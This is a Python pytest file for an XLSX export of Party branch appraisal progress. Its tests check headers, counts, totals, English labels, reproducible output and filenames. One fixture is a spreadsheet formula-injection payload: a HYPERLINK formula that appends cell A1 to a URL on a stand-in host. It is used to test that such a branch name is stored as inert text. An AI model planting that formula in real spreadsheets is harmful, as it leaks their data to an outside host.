"""Progress at a glance (进度一览) as XLSX, read back with openpyxl: the headers, a row per
branch with its counts as numbers, the totals, names as text whatever they look like, and
the same bytes for the same progress."""

import io
import time
from typing import Any
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from reports import progress_xlsx

HEADERS = ["支部", "责任区数", "未开启", "自查", "责任区评价", "党小组长考核", "党支部审核",
           "已公示", "已撤销", "公示状态", "已定稿", "未答复异议", "无责任党员的责任区",
           "未分配责任区的党员", "无责任区的党小组"]
HOSTILE = '=HYPERLINK("http://example.com/?leak="&A1,"点击")'
NAMES = {"branch": {"B1": "综采支部", "B2": "掘进支部", "B3": HOSTILE}}


def branch(branch_id: str | None, posting: str | None, scale: int = 1) -> dict[str, Any]:
    row = {"zones": 13 * scale, "not_opened": 1 * scale,
           "states": {"self_check": 2 * scale, "zone_evaluation": 1 * scale, "group_review": 0,
                      "branch_approval": 3 * scale, "published": 5 * scale,
                      "cancelled": 1 * scale},
           "final": 5 * scale, "open_objections": 1 * scale,
           "gaps": {"zones_without_responsible": 0, "members_without_zone": 2 * scale,
                    "groups_without_zone": 0}}
    return row if branch_id is None else {"branch_id": branch_id, "posting": posting, **row}


PROGRESS = {"period": "2026-11", "as_of": "2026-12-06T17:30:00.000000Z",
            "branches": [branch("B1", "open"), branch("B2", "none"), branch("B3", "closed"),
                         branch("B9", "open")],
            "totals": branch(None, None, scale=4)}


def sheet_of(data: bytes) -> Worksheet:
    return load_workbook(io.BytesIO(data)).active


@pytest.fixture(scope="module")
def xlsx() -> bytes:
    return progress_xlsx.workbook(PROGRESS, NAMES)


@pytest.fixture(scope="module")
def rows(xlsx: bytes) -> list[tuple[Any, ...]]:
    return list(sheet_of(xlsx).iter_rows(values_only=True))


def test_the_title_names_the_period_and_the_instant_in_china_time(rows: list) -> None:
    assert rows[0][0] == "2026年11月党员责任区考核进度一览（截至 2026-12-07 01:30 北京时间）"


def test_the_headers_name_every_count(rows: list) -> None:
    assert list(rows[1]) == HEADERS


def test_a_branch_row_holds_its_counts_as_numbers(rows: list) -> None:
    assert list(rows[2]) == ["综采支部", 13, 1, 2, 1, 0, 3, 5, 1, "公示中", 5, 1, 0, 2, 0]
    assert [row[9] for row in rows[2:6]] == ["公示中", "未公示", "已定稿", "公示中"]


def test_a_branch_without_a_name_shows_as_its_id(rows: list) -> None:
    assert rows[5][0] == "B9"


def test_the_totals_row_closes_the_sheet(rows: list) -> None:
    assert len(rows) == 7
    assert list(rows[6]) == ["合计", 52, 4, 8, 4, 0, 12, 20, 4, None, 20, 4, 0, 8, 0]


def test_a_name_that_looks_like_a_formula_is_stored_as_text(xlsx: bytes) -> None:
    sheet = sheet_of(xlsx)
    cell = sheet["A5"]
    assert cell.value == HOSTILE
    assert cell.data_type == "s"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type in ("f", "e")]


def test_the_same_progress_gives_the_same_bytes_whatever_the_clock(
        xlsx: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(time, "time", lambda: 4_102_444_800.0)  # 2100-01-01: zip entry dates
    assert progress_xlsx.workbook(PROGRESS, NAMES) == xlsx
    properties = load_workbook(io.BytesIO(xlsx)).properties
    assert properties.created.isoformat() == "2026-12-06T17:30:00"
    assert properties.modified == properties.created


def test_the_english_sheet_has_english_headers_and_states() -> None:
    rows = list(sheet_of(progress_xlsx.workbook(PROGRESS, NAMES, lang="en"))
                .iter_rows(values_only=True))
    assert rows[0][0] == "Appraisal progress, November 2026 (as of 2026-12-07 01:30 China time)"
    assert rows[1][:10] == ("Branch", "Zones", "Not opened", "Self-check", "Zone evaluation",
                            "Group review", "Branch approval", "Published", "Cancelled",
                            "Posting")
    assert [row[9] for row in rows[2:5]] == ["Posted", "Not posted", "Final"]
    assert rows[6][0] == "Total"


def test_the_filename_has_an_ascii_name_and_the_chinese_one() -> None:
    value = progress_xlsx.filename(PROGRESS)
    assert value.startswith('attachment; filename="progress-2026-11.xlsx"; filename*=UTF-8\'\'')
    assert unquote(value.split("''", 1)[1]) == "进度一览-2026-11.xlsx"
